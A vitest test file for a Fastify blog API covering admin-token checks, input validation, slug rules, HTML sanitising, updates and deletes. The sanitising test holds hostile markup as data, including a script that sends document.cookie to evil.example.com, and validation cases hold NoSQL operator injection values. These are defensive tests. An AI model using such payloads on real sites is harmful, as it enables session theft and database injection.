import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance, InjectOptions } from 'fastify';
import { BLOG_AUTHOR, BLOG_NOT_FOUND_MESSAGE, type BlogArticle } from '@stallplan/contracts';
import { signAdminToken } from '@stallplan/service-kit';
import { adminHeaders, buildContent, closeContent, TEST_ADMIN_SECRET } from '../../helper.js';

const CONTENT = '<p>Book the space early, agree the design with the builder and plan the freight.</p>';

describe('blog writes', () => {
  let app: FastifyInstance;
  let admin: Record<string, string>;

  const send = (options: InjectOptions) => app.inject({ ...options, headers: { ...admin, ...options.headers } });
  const create = (payload: unknown) => send({ method: 'POST', url: '/api/blogs', payload: payload as object });
  const createArticle = async (payload: object): Promise<BlogArticle> => {
    const res = await create(payload);
    expect(res.statusCode, res.body).toBe(201);
    return res.json().data as BlogArticle;
  };
  const totalPosts = async () => (await app.inject({ method: 'GET', url: '/api/blogs' })).json().pagination.totalPosts as number;

  beforeAll(async () => {
    app = await buildContent();
    admin = await adminHeaders();
  });
  afterAll(async () => {
    await closeContent(app);
  });

  describe('admin token', () => {
    const writes = (id: string): InjectOptions[] => [
      { method: 'POST', url: '/api/blogs', payload: { header: 'Token test article', content: CONTENT } },
      { method: 'PUT', url: `/api/blogs/${id}`, payload: { header: 'Token test article', content: CONTENT } },
      { method: 'PATCH', url: `/api/blogs/${id}`, payload: { header: 'Token test article' } },
      { method: 'DELETE', url: `/api/blogs/${id}` },
    ];

    it('refuses every write without a token, with a forged one, an expired one or a malformed one, and changes nothing', async () => {
      const article = await createArticle({ header: 'Protected article', content: CONTENT });
      const before = await totalPosts();
      const forged = (await signAdminToken('some-other-secret-that-is-long-enough-xx')).token;
      const expired = (await signAdminToken(TEST_ADMIN_SECRET, -60)).token;
      const tokens: Array<Record<string, string>> = [
        {},
        { 'x-admin-token': forged },
        { 'x-admin-token': expired },
        { 'x-admin-token': 'not-a-token' },
        { authorization: `Bearer ${forged}` },
      ];
      for (const headers of tokens) {
        for (const request of writes(article.id)) {
          const res = await app.inject({ ...request, headers });
          expect(res.statusCode, `${request.method} ${JSON.stringify(headers)}`).toBe(401);
          expect(res.json()).toMatchObject({ success: false, error: expect.stringMatching(/admin/i) });
        }
      }
      expect(await totalPosts()).toBe(before);
      const unchanged = await app.inject({ method: 'GET', url: `/api/blogs/${article.id}` });
      expect(unchanged.json().data).toEqual(article);
    });

    it('checks the token before reading the request, so a stranger learns nothing about the input rules', async () => {
      const res = await app.inject({ method: 'POST', url: '/api/blogs', payload: { header: 'x' } });
      expect(res.statusCode).toBe(401);
    });

    it('accepts the token as a bearer token too', async () => {
      const { token } = await signAdminToken(TEST_ADMIN_SECRET);
      const res = await app.inject({
        method: 'POST',
        url: '/api/blogs',
        headers: { authorization: `Bearer ${token}` },
        payload: { header: 'Bearer token article', content: CONTENT },
      });
      expect(res.statusCode).toBe(201);
    });
  });

  describe('POST /api/blogs', () => {
    it('publishes a trimmed article signed by the product, whatever author it is sent with', async () => {
      const res = await create({ header: '   Planning Your First Stall  ', content: `  ${CONTENT}\n `, author: 'Mallory', slug: 'chosen-by-client' });
      expect(res.statusCode).toBe(201);
      const article = res.json().data as BlogArticle;
      expect(article).toEqual({
        id: expect.stringMatching(/^[0-9a-f]{24}$/),
        header: 'Planning Your First Stall',
        content: CONTENT,
        author: BLOG_AUTHOR,
        slug: 'planning-your-first-stall',
        timestamp: expect.any(String),
        status: 'published',
        readingMinutes: 1,
        version: 1,
      });
      expect(Math.abs(Date.parse(article.timestamp) - Date.now())).toBeLessThan(60_000);
      const read = await app.inject({ method: 'GET', url: '/api/blogs/planning-your-first-stall' });
      expect(read.json().data).toEqual(article);
    });

    it('derives the slug from the title by the slug rule', async () => {
      expect((await createArticle({ header: 'GST & You: 10 Tips -- for 2025!', content: CONTENT })).slug).toBe('gst-you-10-tips-for-2025');
      expect((await createArticle({ header: 'Café   Expo  Stalls', content: CONTENT })).slug).toBe('cafe-expo-stalls');
      expect((await createArticle({ header: '!!!!!', content: CONTENT })).slug).toBe('post');
    });

    it('adds -2, -3, … when the slug is taken', async () => {
      const slugs = [];
      for (let i = 0; i < 3; i += 1) slugs.push((await createArticle({ header: 'Booth Lighting Ideas', content: CONTENT })).slug);
      expect(slugs).toEqual(['booth-lighting-ideas', 'booth-lighting-ideas-2', 'booth-lighting-ideas-3']);
      const second = await app.inject({ method: 'GET', url: '/api/blogs/booth-lighting-ideas-2' });
      expect(second.json().data.slug).toBe('booth-lighting-ideas-2');
    });

    it('gives different slugs to the same title published at the same moment', async () => {
      const results = await Promise.all([1, 2, 3].map(() => create({ header: 'Simultaneous Launch', content: CONTENT })));
      expect(results.map((res) => res.statusCode)).toEqual([201, 201, 201]);
      const slugs = results.map((res) => (res.json().data as BlogArticle).slug).sort();
      expect(slugs).toEqual(['simultaneous-launch', 'simultaneous-launch-2', 'simultaneous-launch-3']);
    });

    it('keeps a 200-character title and can serve its long slug', async () => {
      const header = `${'Exhibition '.repeat(18)}stall planning`.slice(0, 200);
      const article = await createArticle({ header, content: CONTENT });
      expect(article.header).toHaveLength(200);
      expect(article.slug.length).toBeGreaterThan(100);
      const read = await app.inject({ method: 'GET', url: `/api/blogs/${article.slug}` });
      expect(read.statusCode).toBe(200);
      expect(read.json().data.id).toBe(article.id);
    });

    describe('refuses invalid articles with the documented sentences before writing anything', () => {
      const longTitle = 'x'.repeat(201);
      const cases: Array<[string, unknown, string, string]> = [
        ['no title', { content: CONTENT }, 'header', 'Blog title is required'],
        ['a blank title', { header: '    ', content: CONTENT }, 'header', 'Blog title is required'],
        ['a title of 4 characters', { header: ' Tips ', content: CONTENT }, 'header', 'Blog title must be at least 5 characters'],
        ['a title of 201 characters', { header: longTitle, content: CONTENT }, 'header', 'Blog title must be less than 200 characters'],
        ['no content', { header: 'A fine title' }, 'content', 'Blog content is required'],
        ['blank content', { header: 'A fine title', content: ' \n ' }, 'content', 'Blog content is required'],
        ['content of 49 characters', { header: 'A fine title', content: ` ${'x'.repeat(49)} ` }, 'content', 'Blog content must be at least 50 characters'],
        [
          'content of 10,001 characters',
          { header: 'A fine title', content: 'x'.repeat(10_001) },
          'content',
          'Blog content must be less than 10,000 characters',
        ],
        ['an operator for the title', { header: { $gt: '' }, content: CONTENT }, 'header', 'Blog title is required'],
        ['an operator for the content', { header: 'A fine title', content: { $ne: null } }, 'content', 'Blog content is required'],
        ['a number for the title', { header: 12345, content: CONTENT }, 'header', 'Blog title is required'],
      ];

      it.each(cases)('%s', async (_what, payload, path, sentence) => {
        const before = await totalPosts();
        const res = await create(payload);
        expect(res.statusCode).toBe(400);
        expect(res.json()).toEqual({ success: false, error: sentence, details: [{ path, message: sentence }] });
        expect(await totalPosts()).toBe(before);
      });

      it('names every problem at once', async () => {
        const res = await create({ header: 'Tips' });
        expect(res.json().error).toBe('Blog title must be at least 5 characters; Blog content is required');
      });

      it('accepts the limits themselves: 5 and 200 characters of title, 50 and 10,000 of content', async () => {
        expect((await create({ header: 'Tips!', content: 'y'.repeat(50) })).statusCode).toBe(201);
        expect((await create({ header: 'z'.repeat(200), content: `<p>${'y'.repeat(9_993)}</p>` })).statusCode).toBe(201);
      });

      it('refuses a body that is not an article', async () => {
        for (const payload of ['"just text"', '[1,2]', 'null']) {
          const res = await send({ method: 'POST', url: '/api/blogs', headers: { 'content-type': 'application/json' }, payload });
          expect(res.statusCode, payload).toBe(400);
          expect(res.json().success).toBe(false);
        }
        const broken = await send({ method: 'POST', url: '/api/blogs', headers: { 'content-type': 'application/json' }, payload: '{"header":' });
        expect(broken.statusCode).toBe(400);
        expect(broken.json()).toEqual({ success: false, error: 'The request body is not valid JSON.' });
      });
    });
  });

  describe('sanitising', () => {
    const hostile = [
      '<h2>Stall checklist</h2><p onmouseover="steal()" style="color:red">Keep this paragraph, it explains the checklist in detail.</p>',
      '<script>document.location="https://evil.example.com/?c="+document.cookie</script>',
      '<img src="/api/files/plan.png" alt="Plan" width="600" onerror="steal()">',
      '<img src="x" onerror="steal()">',
      '<a href="javascript:steal()">click</a> <a href="https://example.com/guide">guide</a>',
      '<iframe src="https://evil.example.com"></iframe><style>h2{display:none}</style>',
      '<ul><li>Power</li><li>Water</li></ul><table><tr><th>Item</th><td>Cost</td></tr></table>',
      '<form action="https://evil.example.com"><input name="password"></form>',
    ].join('');

    it('stores and serves only the safe parts, on create, read, list and update', async () => {
      const created = await create({ header: 'Hostile markup article', content: hostile });
      expect(created.statusCode).toBe(201);
      const { id } = created.json().data as BlogArticle;
      const updated = await send({ method: 'PUT', url: `/api/blogs/${id}`, payload: { header: 'Hostile markup article', content: `${hostile}<p>more</p>` } });
      expect(updated.statusCode).toBe(200);
      const responses = [
        created,
        updated,
        await app.inject({ method: 'GET', url: `/api/blogs/${id}` }),
        await app.inject({ method: 'GET', url: '/api/blogs?search=hostile' }),
      ];
      for (const res of responses) {
        expect(res.body).not.toMatch(/<script|onerror=|onmouseover=|javascript:|<iframe|<style|style=|<form|<input/i);
        expect(res.body).toContain('<h2>Stall checklist</h2>');
        expect(res.body).toContain('<img src=\\"/api/files/plan.png\\" alt=\\"Plan\\" width=\\"600\\" />');
        expect(res.body).toContain('<a href=\\"https://example.com/guide\\" target=\\"_blank\\" rel=\\"noopener noreferrer\\">guide</a>');
        expect(res.body).toContain('<ul><li>Power</li><li>Water</li></ul>');
        expect(res.body).toContain('<th>Item</th>');
      }
      const stored = await app.mongo.collection('blogs').findOne({ header: 'Hostile markup article' });
      expect(stored?.['content']).not.toMatch(/<script|onerror=|javascript:/i);
    });

    it('refuses content that is too short once the unsafe parts are gone', async () => {
      const onlyScript = await create({ header: 'Only a script', content: `<script>${'x'.repeat(80)}</script>` });
      expect(onlyScript.statusCode).toBe(400);
      expect(onlyScript.json()).toMatchObject({ success: false, error: 'Blog content is required' });
      const mostlyScript = await create({ header: 'Mostly a script', content: `<p>Short.</p><script>${'x'.repeat(80)}</script>` });
      expect(mostlyScript.statusCode).toBe(400);
      expect(mostlyScript.json()).toMatchObject({ success: false, error: 'Blog content must be at least 50 characters' });
    });
  });

  describe('PUT /api/blogs/:id', () => {
    it('changes title and content but keeps the slug, author, date and status', async () => {
      const original = await createArticle({ header: 'Original Title Here', content: CONTENT });
      const content = `<p>${'Updated words about stall design. '.repeat(10)}</p>`;
      const res = await send({
        method: 'PUT',
        url: `/api/blogs/${original.id}`,
        payload: { header: '  A Completely New Title ', content, author: 'Mallory', slug: 'new' },
      });
      expect(res.statusCode).toBe(200);
      expect(res.json()).toEqual({
        success: true,
        data: { ...original, header: 'A Completely New Title', content, readingMinutes: 1, version: 2 },
      });
      const bySlug = await app.inject({ method: 'GET', url: '/api/blogs/original-title-here' });
      expect(bySlug.json().data.header).toBe('A Completely New Title');
      const byNewTitle = await app.inject({ method: 'GET', url: '/api/blogs/a-completely-new-title' });
      expect(byNewTitle.statusCode).toBe(404);
    });

    it('finds the article by its slug too', async () => {
      const original = await createArticle({ header: 'Edited By Slug', content: CONTENT });
      const res = await send({ method: 'PUT', url: '/api/blogs/edited-by-slug', payload: { header: 'Edited By Slug Again', content: CONTENT } });
      expect(res.statusCode).toBe(200);
      expect(res.json().data).toMatchObject({ id: original.id, slug: 'edited-by-slug', header: 'Edited By Slug Again' });
    });

    it('refuses invalid changes with the documented sentences and keeps the article as it was', async () => {
      const original = await createArticle({ header: 'Stays The Same', content: CONTENT });
      const res = await send({ method: 'PUT', url: `/api/blogs/${original.id}`, payload: { header: 'Tips', content: CONTENT } });
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toBe('Blog title must be at least 5 characters');
      expect((await app.inject({ method: 'GET', url: `/api/blogs/${original.id}` })).json().data).toEqual(original);
    });

    it('answers an unknown article with 404', async () => {
      for (const id of ['0123456789abcdef01234567', 'no-such-article']) {
        const res = await send({ method: 'PUT', url: `/api/blogs/${id}`, payload: { header: 'Nobody Home', content: CONTENT } });
        expect(res.statusCode).toBe(404);
        expect(res.json()).toEqual({ success: false, error: BLOG_NOT_FOUND_MESSAGE });
      }
    });

    it('refuses an id that could never name an article before touching the database', async () => {
      const res = await send({ method: 'PUT', url: `/api/blogs/${encodeURIComponent('{"$ne":null}')}`, payload: { header: 'Nobody Home', content: CONTENT } });
      expect(res.statusCode).toBe(400);
      expect(res.json().error).toContain('Blog id may contain only letters, digits, - and _.');
    });
  });

  describe('DELETE /api/blogs/:id', () => {
    it('removes the article for good', async () => {
      const article = await createArticle({ header: 'Short Lived Article', content: CONTENT });
      const before = await totalPosts();
      const res = await send({ method: 'DELETE', url: `/api/blogs/${article.id}` });
      expect(res.statusCode).toBe(200);
      expect(res.json()).toEqual({ success: true, message: 'Deleted the article "Short Lived Article".' });
      expect(await totalPosts()).toBe(before - 1);
      expect((await app.inject({ method: 'GET', url: `/api/blogs/${article.id}` })).statusCode).toBe(404);
      const again = await send({ method: 'DELETE', url: `/api/blogs/${article.id}` });
      expect(again.statusCode).toBe(404);
      expect(again.json()).toEqual({ success: false, error: BLOG_NOT_FOUND_MESSAGE });
    });

    it('removes by slug too, and the slug is free again afterwards', async () => {
      await createArticle({ header: 'Deleted By Slug', content: CONTENT });
      expect((await send({ method: 'DELETE', url: '/api/blogs/deleted-by-slug' })).statusCode).toBe(200);
      expect((await createArticle({ header: 'Deleted By Slug', content: CONTENT })).slug).toBe('deleted-by-slug');
    });
  });
});
